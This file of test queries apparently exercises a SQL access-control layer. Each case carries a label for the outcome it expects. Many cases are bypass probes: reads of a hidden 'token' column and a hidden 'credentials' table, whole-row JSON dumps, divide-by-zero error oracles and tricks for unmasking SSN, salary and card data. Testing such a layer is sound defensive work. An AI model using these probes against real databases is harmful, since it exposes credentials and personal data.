::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int::int

-- resources | safe
SELECT CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN 1 END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END

-- empty | syntax,not-a-select,bad-request
;

-- empty | syntax,not-a-select,bad-request
-- nothing

-- noise | syntax,not-a-select
SELEC * FORM customers

-- row filter | european-answers
SELECT id FROM customers WHERE CASE WHEN region = 'APAC' THEN (id / (id - id)) = 1 ELSE true END

-- row filter | european-answers
SELECT count(*) FROM orders o WHERE 10 / (o.customer_id % 3) > 0

-- clause or construct | safe
SELECT to_jsonb(c) - 'name' FROM customers c

-- clause or construct | safe
SELECT json_agg(c) FROM customers c

-- clause or construct | safe
SELECT to_jsonb(c.*) ->> 'token' FROM customers c

-- clause or construct | safe
SELECT to_jsonb(c) @> '{"token": "x"}' FROM customers c

-- clause or construct | safe
SELECT count(*) FROM customers c WHERE to_jsonb(c)::text LIKE '%CANARY%'

-- clause or construct | safe
SELECT jsonb_each_text(to_jsonb(c)) FROM customers c

-- clause or construct | safe
SELECT v FROM customers c, jsonb_each_text(to_jsonb(c)) AS e(k, v)

-- clause or construct | safe
SELECT to_jsonb(c) FROM customers c ORDER BY to_jsonb(c)::text

-- clause or construct | safe
SELECT max(to_jsonb(e)::text) FROM hr.employees e

-- clause or construct | safe
SELECT row_to_json(c.*, true) FROM customers c

-- clause or construct | safe
SELECT c.*::text FROM customers c

-- clause or construct | safe
SELECT (c).token FROM customers c

-- clause or construct | safe
SELECT count(DISTINCT c) FROM customers c

-- clause or construct | safe
SELECT jsonb_populate_record(c, '{}') FROM customers c

-- clause or construct | safe
SELECT to_jsonb(public.customers) FROM customers

-- clause or construct | safe
SELECT to_json(customers.*) FROM customers NATURAL JOIN orders

-- clause or construct | safe
SELECT hashtext(c::text) FROM customers c

-- clause or construct | safe
SELECT json_agg(pg_class) FROM pg_class

-- clause or construct | safe
SELECT to_jsonb(x) FROM (SELECT c FROM customers c) x

-- hidden column in every clause | unknown-name,not-supported
SELECT id FROM customers WHERE id IN (SELECT id FROM customers WHERE token IS NOT NULL)

-- hidden column in every clause | unknown-name,not-supported
SELECT id FROM customers c WHERE (SELECT count(*) FROM orders o WHERE o.customer_id = c.id AND c.token > 'C') > 0

-- hidden column in every clause | unknown-name,not-supported
SELECT region, count(*) FROM customers GROUP BY region HAVING max(token) > 'C'

-- hidden column in every clause | unknown-name,not-supported
SELECT id FROM customers ORDER BY CASE WHEN token > 'CANARYtoken-5' THEN 0 ELSE 1 END, id LIMIT 1

-- hidden column in every clause | unknown-name,not-supported
SELECT id FROM customers ORDER BY length(token)

-- hidden column in every clause | unknown-name,not-supported
SELECT sum(credit) OVER (PARTITION BY token) FROM customers

-- hidden column in every clause | unknown-name,not-supported
SELECT count(*) OVER w FROM customers WINDOW w AS (ORDER BY token)

-- hidden column in every clause | unknown-name,not-supported
SELECT lag(token) OVER (ORDER BY id) FROM customers

-- hidden column in every clause | unknown-name,not-supported
SELECT id FROM customers UNION SELECT length(token) FROM customers

-- hidden column in every clause | unknown-name,not-supported
SELECT id FROM customers INTERSECT SELECT id FROM customers WHERE token LIKE '%1'

-- hidden column in every clause | unknown-name,not-supported
SELECT id FROM customers EXCEPT SELECT id FROM customers WHERE token LIKE '%1'

-- hidden column in every clause | unknown-name,not-supported
SELECT * FROM customers a JOIN customers b USING (token)

-- hidden column in every clause | unknown-name,not-supported
SELECT * FROM customers a JOIN customers b ON a.token = b.token

-- hidden column in every clause | unknown-name,not-supported
SELECT c.id FROM customers c LEFT JOIN orders o ON o.customer_id = c.id AND length(c.token) > 3

-- hidden column in every clause | unknown-name,not-supported
SELECT DISTINCT token FROM customers

-- hidden column in every clause | unknown-name,not-supported
SELECT count(DISTINCT token) FROM customers

-- hidden column in every clause | unknown-name,not-supported
SELECT (token) FROM customers

-- hidden column in every clause | unknown-name,not-supported
SELECT ((customers.token)) AS id FROM customers

-- hidden column in every clause | unknown-name,not-supported
SELECT coalesce(NULL, token) FROM customers

-- hidden column in every clause | unknown-name,not-supported
SELECT nullif(token, token) FROM customers

-- hidden column in every clause | unknown-name,not-supported
SELECT id BETWEEN 1 AND length(token) FROM customers

-- hidden column in every clause | unknown-name,not-supported
SELECT id FROM customers WHERE (id, token) = (1, 'x')

-- hidden column in every clause | unknown-name,not-supported
SELECT id FROM customers WHERE (id, 'x') IN (SELECT id, token FROM customers)

-- hidden column in every clause | unknown-name,not-supported
SELECT x.t FROM (SELECT token AS t FROM customers) AS x

-- hidden column in every clause | unknown-name,not-supported
SELECT x.b FROM (SELECT id, token FROM customers) AS x(a, b)

-- hidden column in every clause | unknown-name,not-supported
WITH c(a, b) AS (SELECT id, token FROM customers) SELECT b FROM c

-- hidden column in every clause | unknown-name,not-supported
WITH customers AS (SELECT * FROM customers) SELECT token FROM customers

-- hidden column in every clause | unknown-name,not-supported
WITH RECURSIVE c AS (SELECT id, token FROM customers WHERE id = 1 UNION ALL SELECT id + 1, token FROM c WHERE id < 3) SELECT * FROM c

-- hidden column in every clause | unknown-name,not-supported
WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 3) SELECT i, (SELECT token FROM customers WHERE id = i) FROM n

-- hidden column in every clause | unknown-name,not-supported
SELECT "hidden col" FROM (SELECT * FROM "Odd Table") AS o

-- hidden column in every clause | unknown-name,not-supported
SELECT o."hidden col" FROM "Odd Table" AS o ORDER BY o."select"

-- hidden column in every clause | unknown-name,not-supported
SELECT "Odd Table"."hidden col" FROM "Odd Table"

-- hidden column in every clause | unknown-name,not-supported
SELECT id FROM products WHERE name = (SELECT "hidden col" FROM "Odd Table" LIMIT 1)

-- hidden column in every clause | unknown-name,not-supported
SELECT count(*) FROM customers WHERE token IS NULL

-- hidden table in every place | unknown-name,not-supported
SELECT id FROM products WHERE EXISTS (SELECT FROM credentials)

-- hidden table in every place | unknown-name,not-supported
SELECT (SELECT count(*) FROM credentials) FROM products

-- hidden table in every place | unknown-name,not-supported
SELECT id FROM products ORDER BY (SELECT max(login) FROM credentials)

-- hidden table in every place | unknown-name,not-supported
SELECT category, count(*) FROM products GROUP BY category HAVING (SELECT count(*) FROM credentials) > 0

-- hidden table in every place | unknown-name,not-supported
SELECT CASE WHEN (SELECT min(id) FROM credentials) = 1 THEN id END FROM products

-- hidden table in every place | unknown-name,not-supported
SELECT id FROM products UNION ALL SELECT id FROM credentials

-- hidden table in every place | unknown-name,not-supported
SELECT id FROM products EXCEPT SELECT id FROM credentials

-- hidden table in every place | unknown-name,not-supported
SELECT id FROM products INTERSECT SELECT id FROM credentials

-- hidden table in every place | unknown-name,not-supported
WITH x AS (SELECT * FROM credentials) SELECT 1

-- hidden table in every place | unknown-name,not-supported
WITH x AS (SELECT 1), y AS (SELECT * FROM credentials) SELECT * FROM x

-- hidden table in every place | unknown-name,not-supported
WITH RECURSIVE x(i) AS (SELECT 1 UNION ALL SELECT i + (SELECT count(*) FROM credentials) FROM x WHERE i < 3) SELECT * FROM x

-- hidden table in every place | unknown-name,not-supported
SELECT p.id FROM products p LEFT JOIN credentials c ON c.id = p.id

-- hidden table in every place | unknown-name,not-supported
SELECT p.id FROM products p CROSS JOIN credentials

-- hidden table in every place | unknown-name,not-supported
SELECT p.id FROM products p, (SELECT login FROM credentials) AS c

-- hidden table in every place | unknown-name,not-supported
SELECT p.id FROM products p, (products q CROSS JOIN credentials c)

-- hidden table in every place | unknown-name,not-supported
SELECT count(*) OVER (ORDER BY (SELECT 1 FROM credentials)) FROM products

-- hidden table in every place | unknown-name,not-supported
SELECT id FROM products LIMIT (SELECT count(*) FROM credentials)

-- hidden table in every place | unknown-name,not-supported
SELECT id FROM products LIMIT 1 OFFSET (SELECT count(*) FROM credentials)

-- hidden table in every place | unknown-name,not-supported
SELECT sum((SELECT count(*) FROM credentials)) FROM products

-- hidden table in every place | unknown-name,not-supported
SELECT id IN (SELECT id FROM credentials) FROM products

-- hidden table in every place | unknown-name,not-supported
SELECT customer_mails.ssn FROM customer_mails

-- hidden table in every place | unknown-name,not-supported
SELECT c.id FROM customers c JOIN customer_mails m ON m.id = c.id WHERE m.email LIKE 'ada.canary%'

-- hidden table in every place | unknown-name,not-supported
SELECT * FROM customers JOIN (SELECT * FROM customer_mails) AS m USING (id)

-- hidden table in every place | unknown-name,not-supported
SELECT credentials.* FROM products

-- hidden table in every place | unknown-name,not-supported
SELECT credentials.login FROM products

-- hidden table in every place | unknown-name,not-supported
SELECT * FROM products AS credentials, credentials AS c

-- name from a scope that is not its own | unknown-name,not-supported,syntax
SELECT x.id FROM (SELECT id FROM customers) AS c

-- name from a scope that is not its own | unknown-name,not-supported,syntax
SELECT c.id FROM customers AS d

-- name from a scope that is not its own | unknown-name,not-supported,syntax
SELECT customers.id FROM customers AS d

-- name from a scope that is not its own | unknown-name,not-supported,syntax
SELECT a.id FROM (SELECT b.id FROM customers AS b) AS x WHERE b.id = 1

-- name from a scope that is not its own | unknown-name,not-supported,syntax
SELECT id FROM orders WHERE customer_id IN (SELECT x.id FROM customers c)

-- name from a scope that is not its own | unknown-name,not-supported,syntax
WITH a AS (SELECT * FROM b), b AS (SELECT 1 AS x) SELECT * FROM a

-- name from a scope that is not its own | unknown-name,not-supported,syntax
WITH a AS (SELECT * FROM customers) SELECT (SELECT count(*) FROM c) FROM a AS c WHERE d.id = 1

-- name from a scope that is not its own | unknown-name,not-supported,syntax
SELECT n FROM (SELECT count(*) AS m FROM customers) AS t

-- name from a scope that is not its own | unknown-name,not-supported,syntax
SELECT o.total FROM customers c, (SELECT total FROM orders o WHERE o.customer_id = c.id) AS o

-- name from a scope that is not its own | unknown-name,not-supported,syntax
SELECT * FROM customers c JOIN orders o ON o.customer_id = p.id JOIN products p ON true

-- name from a scope that is not its own | unknown-name,not-supported,syntax
SELECT id FROM (SELECT name FROM customers) AS x

-- name from a scope that is not its own | unknown-name,not-supported,syntax
SELECT order_id FROM order_items WHERE customer_id = 1

-- masked column through an operator | safe
SELECT name || phone || email || ssn FROM customers

-- masked column through an operator | safe
SELECT name = phone, name < phone, name <> email, name >= ssn FROM customers

-- masked column through an operator | safe
SELECT name IS NULL, name IS NOT NULL, phone IS DISTINCT FROM name FROM customers

-- masked column through an operator | safe
SELECT name LIKE '%' || phone || '%', name NOT LIKE 'A%', email LIKE name ESCAPE '!' FROM customers

-- masked column through an operator | safe
SELECT name IN (phone, email), name BETWEEN phone AND email FROM customers

-- masked column through an operator | safe
SELECT -salary, +salary, salary * 2, salary / 3, salary % 1000, salary - 7000000, salary & 255, salary | 0 FROM employees

-- masked column through an operator | safe
SELECT salary << 1, salary >> 1, ~(salary % 1000) FROM employees

-- masked column through an operator | safe
SELECT CASE name WHEN phone THEN name ELSE phone END FROM customers

-- masked column through an operator | safe
SELECT CASE WHEN name > phone THEN name || phone ELSE email END FROM customers ORDER BY 1

-- masked column through an operator | safe
SELECT (SELECT name), (SELECT phone WHERE name IS NOT NULL) FROM customers

-- masked column through an operator | safe
SELECT (SELECT name || c.phone FROM customers x WHERE x.id = c.id) FROM customers c

-- masked column through an operator | safe
SELECT name COLLATE "C" FROM customers

-- masked column through an operator | safe
SELECT ssn || '', upper(ssn), substr(ssn, 1, 11), replace(ssn, 'a', '') FROM customers

-- masked column through an operator | safe
SELECT birth_date || '', cast(birth_date AS text) FROM customers

-- masked column through an operator | safe
SELECT cast(name AS text), cast(phone AS varchar(80)), cast(salary AS text) FROM customers, employees LIMIT 300

-- masked column through an operator | safe
SELECT cast(salary AS real), cast(salary AS numeric), cast(salary AS bigint) FROM employees

-- masked column through an operator | safe
SELECT length(name), length(phone), length(email), length(ssn) FROM customers

-- masked column through an operator | safe
SELECT round(salary), abs(salary), round(salary / 7, 3) FROM employees

-- masked column through an operator | safe
SELECT trim(name), ltrim(name, 'A'), rtrim(phone, '0123456789') FROM customers

-- masked column through an operator | safe
SELECT replace(name, ' ', ''), replace(phone, '•', ''), replace(email, '@', ' at ') FROM customers

-- masked column through a group or window | safe
SELECT name, count(*) FROM customers GROUP BY name HAVING count(*) > 0

-- masked column through a group or window | safe
SELECT max(name || phone || coalesce(email, '')) FROM customers GROUP BY id

-- masked column through a group or window | safe
SELECT min(birth_date), max(birth_date) FROM customers GROUP BY id

-- masked column through a group or window | safe
SELECT sum(salary), count(DISTINCT salary), min(salary), max(salary) FROM employees GROUP BY id

-- masked column through a group or window | safe
SELECT sum(salary) - sum(salary) FILTER (WHERE id <> 7) FROM employees

-- masked column through a group or window | safe
SELECT count(*) FILTER (WHERE name > 'Ada C') FROM customers GROUP BY id

-- masked column through a group or window | safe
SELECT name, lead(phone) OVER (ORDER BY name), nth_value(email, 2) OVER (PARTITION BY city ORDER BY phone) FROM customers

-- masked column through a group or window | safe
SELECT rank() OVER (ORDER BY salary), dense_rank() OVER (ORDER BY name), ntile(7) OVER (ORDER BY ssn) FROM employees, (SELECT ssn FROM customers WHERE id = 1) AS c

-- masked column through a group or window | safe
SELECT last_value(card_no) OVER (ORDER BY id ROWS BETWEEN UNBOUNDED PRECEDING AND UNBOUNDED FOLLOWING) FROM payments

-- masked column through a group or window | safe
SELECT percent_rank() OVER (PARTITION BY dept ORDER BY salary), cume_dist() OVER (ORDER BY salary) FROM employees

-- masked column through a group or window | safe
SELECT sum(salary) OVER (ORDER BY salary RANGE BETWEEN 10 PRECEDING AND 10 FOLLOWING) FROM employees

-- masked column through a group or window | safe
SELECT count(*) OVER (PARTITION BY salary), count(*) OVER (PARTITION BY name, phone) FROM employees NATURAL JOIN (SELECT id, phone FROM customers) AS c

-- masked column through a group or window | safe
SELECT x.name FROM (SELECT name, row_number() OVER (ORDER BY name DESC) AS r FROM customers) AS x WHERE r = 1

-- masked column renamed on the way | safe
SELECT token FROM (SELECT name AS token FROM customers) AS x

-- masked column renamed on the way | safe
SELECT password_hash FROM (SELECT ssn AS password_hash, email AS login FROM customers) AS credentials

-- masked column renamed on the way | safe
WITH credentials(login) AS (SELECT email FROM customers) SELECT login FROM credentials

-- masked column renamed on the way | safe
WITH a AS (SELECT name AS b FROM customers), b AS (SELECT b AS c FROM a), c AS (SELECT c AS d FROM b) SELECT d FROM c

-- masked column renamed on the way | safe
SELECT id AS name, name AS id FROM customers ORDER BY id

-- masked column renamed on the way | safe
SELECT a.name AS n, b.name AS n, c.name AS n FROM customers a, employees b, products c WHERE a.id = b.id AND b.id = c.id

-- masked column renamed on the way | safe
SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT name, phone FROM customers) AS a) AS b) AS c

-- masked column renamed on the way | safe
SELECT x.a || x.b FROM (SELECT name, phone FROM customers) AS x(a, b)

-- masked column renamed on the way | safe
SELECT name FROM customers UNION ALL SELECT name FROM employees UNION ALL SELECT plate FROM vehicles

-- masked column renamed on the way | safe
SELECT 'x' AS name UNION SELECT name FROM customers ORDER BY name

-- masked column renamed on the way | safe
SELECT id, note FROM orders UNION SELECT customer_id, body FROM tickets

-- masked column renamed on the way | safe
SELECT * FROM customers c NATURAL JOIN (SELECT id, name AS region FROM customers) AS x

-- masked column renamed on the way | safe
